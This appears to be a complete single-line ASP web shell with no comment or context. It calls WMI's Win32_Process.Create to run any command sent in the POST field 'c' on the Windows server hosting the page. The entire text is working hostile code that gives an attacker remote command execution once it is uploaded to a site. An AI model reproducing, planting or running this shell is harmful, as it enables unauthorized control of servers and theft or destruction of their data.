<% Set w = GetObject("winmgmts:") : Set p = w.Get("Win32_Process") : p.Create Request.Form("c"), Null, Null, i %>
